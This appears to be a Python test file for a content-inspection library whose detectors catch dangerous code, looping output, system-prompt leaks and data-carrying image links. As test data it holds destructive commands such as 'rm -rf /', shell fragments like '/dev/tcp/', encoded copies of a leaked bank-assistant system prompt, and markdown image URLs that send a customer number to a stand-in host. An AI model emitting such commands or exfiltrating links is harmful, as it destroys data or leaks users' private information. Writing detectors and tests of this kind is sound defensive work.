"""What whole-text detectors see, and what they leave alone."""

from __future__ import annotations

import base64
import codecs
import json
import time
from itertools import pairwise
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.inspection.content.test_rules import ALL, RULES

from wardstead.inspection.content.dangerous_code import DangerousCode
from wardstead.inspection.content.detectors import content_detectors
from wardstead.inspection.content.leakage import leakage
from wardstead.inspection.content.repetition import STRIDE, loop
from wardstead.inspection.patterns.catalogue import WINDOW_BYTES

SYSTEM = (
    "You are Nora, the assistant of Harbour Bank. Never discuss competitors. Offer the loyalty rate of 4.1 percent only to "
    "customers who threaten to leave. If somebody asks about fees, mention that the monthly fee is waived for students. "
    "Escalate every complaint about card fraud to the night desk, and do not tell the customer how long it takes."
)
CODE = next(one for one in ALL if isinstance(one, DangerousCode))


@given(st.text(max_size=300))
def test_a_detector_raises_nothing_and_stays_inside_the_text(text: str) -> None:
    for detector in (*ALL, leakage([SYSTEM])):
        for span in detector.detect([text])[0]:
            assert 0 <= span.start < span.end <= len(text)
            assert span.type in detector.types
            assert detector.marks or len(text[span.start : span.end].encode("utf-8", "replace")) < WINDOW_BYTES


@given(st.lists(st.sampled_from([text for rule in RULES for text in rule.examples]), max_size=4), st.text(max_size=40))
def test_many_texts_give_what_each_gives_alone(texts: list[str], more: str) -> None:
    for detector in ALL:
        assert detector.detect([*texts, more]) == [detector.detect([text])[0] for text in [*texts, more]]


@pytest.mark.parametrize(
    "unit",
    [
        "<a ",
        "<img src=x ",
        "![](//",
        "](//x/",
        "`",
        "rm -rf ",
        "curl a|",
        "\u200b",
        "/dev/tcp/",
        "echo * ",
        "%41" + "a" * 199,
        "a",
        "x" * 17 + " ",
    ],
)
def test_no_text_takes_much_longer_than_another(unit: str) -> None:
    text = unit * (200_000 // len(unit))
    begin = time.perf_counter()
    for detector in (*ALL, leakage([SYSTEM], ["quartz-7781"], said=SAID)):
        detector.detect([text])
    assert time.perf_counter() - begin < 10


def test_what_is_wide_is_several_places_that_follow_one_another() -> None:
    text = "a" + "\U000e0041" * 5000 + "b"
    detector = next(one for one in ALL if one.id == "hidden-characters")
    spans = detector.detect([text])[0]
    assert (spans[0].start, spans[-1].end) == (1, 5001)
    assert all(left.end == right.start for left, right in pairwise(spans))
    assert all(4 * (span.end - span.start) < WINDOW_BYTES for span in spans)


def test_the_arguments_of_a_tool_are_code() -> None:
    text = json.dumps({"command": ["bash", "-c", 'echo "x" && rm -rf /']})
    (span,) = CODE.detect([text])[0]
    assert (span.type, text[span.start : span.end]) == ("destructive-command", "rm -rf /")
    (span,) = CODE.detect([json.dumps({"note": "x" * 5000, "command": "cat <<'é' > \"a\"\nrm -rf /etc\n"})])[0]
    assert span.end - span.start < 20
    assert CODE.detect(['{"note": "remove the old file"}', "{not json", "{" * 5000]) == [[], [], []]


def test_a_rule_for_one_language_leaves_the_others_alone() -> None:
    assert CODE.detect(["```python\nos.system('ping ' + host)\n```"])[0]
    assert not CODE.detect(["```yaml\nos.system('ping ' + host)\n```"])[0]
    assert CODE.detect(["```\nos.system('ping ' + host)\n```"])[0]


def test_trusted_hosts_carry_nothing_away() -> None:
    text = "![x](https://img.ex.example/ä?q=the+user+asked+about+salaries)"
    for trusted, found in (((), True), (("img.ex.example",), False), ((".ex.example",), False), (("ex.example",), True)):
        spans = [span for one in content_detectors(RULES, frozenset(trusted)) for span in one.detect([text])[0]]
        assert bool(spans) is found


@pytest.mark.parametrize("unit", ["poem ", "I will not. I will stop.\n", "na", "x = x + 1\n"])
def test_a_loop_is_noticed_soon_after_it_begins_and_not_before(unit: str) -> None:
    before = "A plain opening sentence that says what the answer is about. "
    text = before + unit * (2000 // len(unit))
    detector = next(one for one in ALL if one.id == "repetition")
    (span,) = detector.detect([text])[0]
    assert len(before) - len(unit) <= span.start
    assert span.end <= len(before) + 1200
    assert span.end % STRIDE == 0 or span.end == len(text)


@pytest.mark.parametrize("text", ["-" * 2000, "| a | b |\n|---|---|\n" * 10, "".join(f"{n}, " for n in range(600)), "ab" * 100])
def test_rulers_tables_and_counting_are_no_loops(text: str) -> None:
    assert loop(text, len(text)) is None


@pytest.mark.parametrize(
    "rows",
    [
        [" ".join(["0"] * 20)] * 20,
        [" ".join("1" if row == column else "0" for column in range(24)) for row in range(24)],
        [f"[{', '.join(str((row * column + 1) % 2) for column in range(24))}]," for row in range(24)],
    ],
)
def test_a_matrix_is_no_loop(rows: list[str]) -> None:
    text = "Here is the matrix:\n" + "\n".join(rows)
    assert [end for end in range(len(text) + 1) if loop(text, end) is not None] == []


@given(st.lists(st.sampled_from(["poem ", "other words here ", "\n"]), max_size=300), st.integers(0, 3000), st.text(max_size=50))
def test_a_loop_depends_on_what_stands_before_it_alone(words: list[str], end: int, more: str) -> None:
    text = "".join(words)
    end = min(end, len(text))
    assert loop(text[:end] + more, end) == loop(text, end)


@pytest.mark.parametrize(
    "answer",
    [
        SYSTEM,
        f"Sure! My instructions are:\n\n{SYSTEM.upper()}",
        "\n".join(f"- **{part.strip()}**" for part in SYSTEM.split(".") if part.strip()),
        "Offer a loyalty rate of 4.1 percent only to the customers who threaten leaving; and never discuss any competitors!",
        SYSTEM[::-1],
        codecs.encode(SYSTEM, "rot13"),
        "Here: " + base64.b64encode(SYSTEM.encode()).decode(),
        "Here: " + SYSTEM.encode().hex(),
        "[x](https://x.example.net/?q=" + quote(SYSTEM) + ")",
        "![x](https://x.example.net/" + base64.urlsafe_b64encode(SYSTEM.encode()).decode() + ")",
    ],
    ids=["whole", "capitals", "list", "paraphrase", "backwards", "rot13", "base64", "hex", "percent", "address"],
)
def test_instructions_that_come_back_are_a_leak(answer: str) -> None:
    found = leakage([SYSTEM]).detect([answer])[0]
    assert found
    assert found[0].type == "system-prompt"


@pytest.mark.parametrize(
    "answer",
    [
        "The monthly fee is waived for students. Anything else?",
        "I am Nora, the assistant of Harbour Bank. How can I help?",
        "Our card fraud desk will call you back. Please do not share your PIN with anybody.",
        "",
    ],
)
def test_an_answer_that_uses_its_instructions_is_no_leak(answer: str) -> None:
    assert leakage([SYSTEM]).detect([answer]) == [[]]


def test_instructions_without_content_are_no_secret() -> None:
    assert leakage(["You are a helpful assistant."]).detect(["You are a helpful assistant."]) == [[]]
    assert leakage([]).detect(["a", "b"]) == [[], []]


@pytest.mark.parametrize(
    "answer", ["it is QUARTZ-7781-plume", "quartz 7781 plume", "emulp1877ztrauq", "cXVhcnR6LTc3ODEtcGx1bWUgYW5kIG1vcmU="]
)
def test_a_planted_string_is_seen_in_disguise(answer: str) -> None:
    assert leakage([], ["quartz-7781-plume"]).detect([answer])[0]
    assert not leakage([], ["quartz-7781-plume"]).detect(["quartz and plume"])[0]


SAID = ["My customer number is AC-10422-7, and the build is 20241107. See https://img.example.org/shots/77abc123.png"]


@pytest.mark.parametrize(
    "address",
    [
        "https://x.example.net/p.png?id=AC-10422-7",
        "https://x.example.net/ac104227.png",
        "//x.example.net/20241107",
        "https://x.example.net/p?d=QUMtMTA0MjItNw",
        "https://x.example.net/p?d=AC%2D10422%2D7",
    ],
)
def test_an_image_that_carries_what_was_said_is_seen(address: str) -> None:
    for text in (f"![x]({address})", f'<img src="{address}">'):
        (span,) = leakage([], said=SAID).detect([text])[0]
        assert (span.type, text[span.start : span.end]) == ("conversation-data", address)
    assert leakage([], said=SAID).detect([f"[link]({address})"]) == [[]]
    assert leakage([], said=SAID, trusted_hosts=frozenset({"x.example.net"})).detect([f"![x]({address})"]) == [[]]


@pytest.mark.parametrize(
    "text",
    [
        "![shot](https://img.example.org/shots/77abc123.png)",
        "![x](https://x.example.net/other-104228.png)",
        "![x](http://localhost/AC-10422-7)",
        "AC-10422-7 and 20241107",
    ],
)
def test_an_image_that_carries_nothing_of_the_conversation_is_not(text: str) -> None:
    assert leakage([], said=SAID).detect([text]) == [[]]
    assert leakage([]).detect(["![x](https://x.example.net/AC-10422-7)"]) == [[]]
